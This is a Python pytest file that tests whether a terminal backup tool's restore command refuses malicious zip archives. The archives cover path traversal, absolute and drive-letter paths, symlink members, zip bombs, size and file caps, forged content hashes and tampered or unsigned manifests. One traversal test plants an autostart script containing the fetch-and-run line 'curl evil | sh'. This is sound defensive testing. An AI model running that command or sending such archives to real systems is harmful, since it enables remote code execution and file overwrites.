"""Attacks on `counter-app restore` with real zips, through the real command line: each one
is refused with a message naming what is wrong, and writes nothing anywhere (not in the data
folder, not next to it, not where the member pointed)."""

from __future__ import annotations

import hashlib
import os
import stat
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from counter_app.terminal import Terminal
from tests.security.terminal.attack_kit import (
    Members,
    edit_manifest,
    put_member,
    re_sign,
    read_members,
    run,
    tree,
    write_zip,
)


@pytest.fixture
def backup(terminal_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    """A real, good backup of the terminal, made with `counter-app backup`."""
    out = tmp_path / "usb" / "backup.zip"
    assert run(terminal_dir, "backup", "--out", str(out)) == 0
    capsys.readouterr()
    return out


def refused(target: Path, archive: Path, capsys: pytest.CaptureFixture[str], *extra: str) -> str:
    """Run the restore; assert exit 2 and that no file changed under the target's parent
    (the data folder, a staging folder beside it, a member's escape target). The error."""
    before = tree(target.parent)
    assert run(target, "restore", str(archive), *extra) == 2
    assert tree(target.parent) == before
    assert not list(target.parent.glob(".restore-*"))
    return capsys.readouterr().err


def with_member(backup: Path, name: str, data: bytes) -> Members:
    """The backup's members plus `name`, listed in the manifest and re-signed with the key
    the backup carries: only the name is wrong."""
    members = read_members(backup)
    put_member(members, name, data)
    re_sign(members)
    return members


@pytest.fixture
def target(tmp_path: Path) -> Iterator[Path]:
    """An empty place to restore into (a new PC), inside a folder the test watches."""
    yield tmp_path / "pc" / "data"


def test_restore_refuses_dotdot_member_escaping_the_data_folder(
    backup: Path, target: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target.parent.mkdir()
    name = "materials/../../config/autostart.sh"
    archive = write_zip(tmp_path / "evil.zip", with_member(backup, name, b"curl evil | sh\n"))
    err = refused(target, archive, capsys)
    assert "contains .." in err
    assert not (tmp_path / "pc" / "config").exists()


def test_restore_refuses_absolute_member(
    backup: Path, target: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target.parent.mkdir()
    escape = tmp_path / "pc" / "owned.txt"
    archive = write_zip(tmp_path / "evil.zip", with_member(backup, str(escape), b"x"))
    assert "is an absolute path" in refused(target, archive, capsys)
    assert not escape.exists()


@pytest.mark.parametrize("name", ["C:/Users/Public/evil.bat", "materials\\..\\..\\evil.bat"])
def test_restore_refuses_drive_letter_and_backslash_members(
    backup: Path, target: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    target.parent.mkdir()
    archive = write_zip(tmp_path / "evil.zip", with_member(backup, name, b"x"))
    assert "has a drive or backslash" in refused(target, archive, capsys)


def test_restore_refuses_symlink_member(
    backup: Path, target: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A zip entry whose Unix mode says 'link', named like a material, pointing out."""
    target.parent.mkdir()
    pointee = str(tmp_path / "pc" / "outside")
    sha = hashlib.sha256(pointee.encode()).hexdigest()
    name = f"materials/{sha[:2]}/{sha}"
    members = with_member(backup, name, pointee.encode())
    del members[name]
    link = zipfile.ZipInfo(name)
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    archive = write_zip(tmp_path / "evil.zip", members, ((link, pointee.encode()),))
    assert f"member {name} is a link" in refused(target, archive, capsys)
    assert not os.path.lexists(pointee)


def test_restore_refuses_member_it_never_writes(
    backup: Path, target: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target.parent.mkdir()
    archive = write_zip(tmp_path / "evil.zip", with_member(backup, "backups/run.sh", b"x"))
    assert "does not belong in a backup" in refused(target, archive, capsys)


def test_restore_refuses_zip_bomb_before_expanding_it(
    backup: Path, target: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """300 MB of zeros as the database: about 300 KB of zip (the old restore expanded it
    while verifying). Refused from the central directory, before any decompression."""
    target.parent.mkdir()
    members = read_members(backup)
    bomb = bytes(300 << 20)
    put_member(members, "counter.db", bomb)
    re_sign(members)
    archive = write_zip(tmp_path / "bomb.zip", members)
    del bomb, members
    assert archive.stat().st_size < 1 << 20
    err = refused(target, archive, capsys)
    assert "impossible compression ratio (zip bomb)" in err


def test_restore_refuses_many_small_bombs(
    backup: Path, target: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Forty 1 MB members of zeros, each under the per-member floor: the archive as a whole
    claims a ratio no backup has."""
    target.parent.mkdir()
    members = read_members(backup)
    for i in range(40):
        sha = hashlib.sha256(str(i).encode()).hexdigest()
        put_member(members, f"materials/{sha[:2]}/{sha}", bytes(1 << 20))
    re_sign(members)
    archive = write_zip(tmp_path / "bombs.zip", members)
    assert "an impossible compression ratio (zip bomb)" in refused(target, archive, capsys)


def test_restore_refuses_more_than_the_size_cap(
    backup: Path, target: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target.parent.mkdir()
    # 2 MB of incompressible scan: counted by what it expands to
    members = read_members(backup)
    big = os.urandom(2 << 20)
    sha = hashlib.sha256(big).hexdigest()
    put_member(members, f"materials/{sha[:2]}/{sha}", big)
    re_sign(members)
    archive = write_zip(target.parent.parent / "big.zip", members)
    assert "over 1 MB" in refused(target, archive, capsys, "--set", "restore_max_mb=1")


def test_restore_refuses_more_files_than_the_cap(
    backup: Path, target: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target.parent.mkdir()
    err = refused(target, backup, capsys, "--set", "restore_max_files=1")
    assert "more than the limit of 1" in err


def test_restore_refuses_material_whose_bytes_differ_from_its_hash_name(
    backup: Path, target: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The manifest's checksum updated and re-signed with the stolen key: the content
    address (the member's own name) still gives the swap away."""
    target.parent.mkdir()
    members = read_members(backup)
    name = next(n for n in members if n.startswith("materials/"))
    forged = b"%PDF-1.4 forged scan"
    put_member(members, name, forged)
    re_sign(members)
    archive = write_zip(tmp_path / "forged.zip", members)
    assert "does not match its content hash" in refused(target, archive, capsys)


def test_restore_refuses_edited_manifest_terminal_id(
    terminal_dir: Path, backup: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Editing the `terminal_id` field without the key breaks the signature."""
    members = read_members(backup)
    edit_manifest(members, lambda m: m.__setitem__("terminal_id", "9ZZZ"))
    archive = write_zip(tmp_path / "edited.zip", members)
    assert "signature is not valid" in refused(terminal_dir, archive, capsys)


def test_restore_refuses_another_terminals_backup_relabelled_as_ours(
    terminal_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The next window's backup, re-signed by its own key and claiming our terminal ID: the
    signature, not the field, says whose it is. --force is the IT person's override."""
    other = tmp_path / "next-window"
    Terminal.init(other, "9ZZZ", "南昌市民中心", "13").close()
    theirs = tmp_path / "9zzz.zip"
    assert run(other, "backup", "--out", str(theirs)) == 0
    members = read_members(theirs)
    edit_manifest(members, lambda m: m.__setitem__("terminal_id", "7QXM"))
    re_sign(members)
    archive = write_zip(tmp_path / "relabelled.zip", members)
    capsys.readouterr()
    err = refused(terminal_dir, archive, capsys)
    assert "signed by another terminal's key" in err and "--force" in err


def test_restore_refuses_an_unsigned_backup_unless_forced(
    backup: Path, target: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target.parent.mkdir()
    members = read_members(backup)
    del members["manifest.sig"]
    edit_manifest(members, lambda m: m.__setitem__("format", "counter-terminal-backup/1"))
    archive = write_zip(tmp_path / "old.zip", members)
    assert "not signed" in refused(target, archive, capsys)


def test_restored_folder_is_private_under_umask_022(
    backup: Path, terminal_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Onto the terminal's own folder, made readable by all first (as an old version or a
    copy with umask 022 left it): after restore the folder is 0700, the rest 0600."""
    for path in [terminal_dir, *terminal_dir.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)
    old = os.umask(0o022)
    try:
        assert run(terminal_dir, "restore", str(backup)) == 0
    finally:
        os.umask(old)
    assert "Restored terminal 7QXM" in capsys.readouterr().out
    assert stat.S_IMODE(terminal_dir.stat().st_mode) == 0o700
    files = [terminal_dir / "counter.db", terminal_dir / "terminal_key.pem"]
    materials = [p for p in (terminal_dir / "materials").rglob("*") if p.is_file()]
    assert len(materials) == 2
    assert {stat.S_IMODE(p.stat().st_mode) for p in files + materials} == {0o600}
    folders = [p for p in (terminal_dir / "materials").rglob("*") if p.is_dir()]
    assert {stat.S_IMODE(p.stat().st_mode) for p in folders} == {0o700}
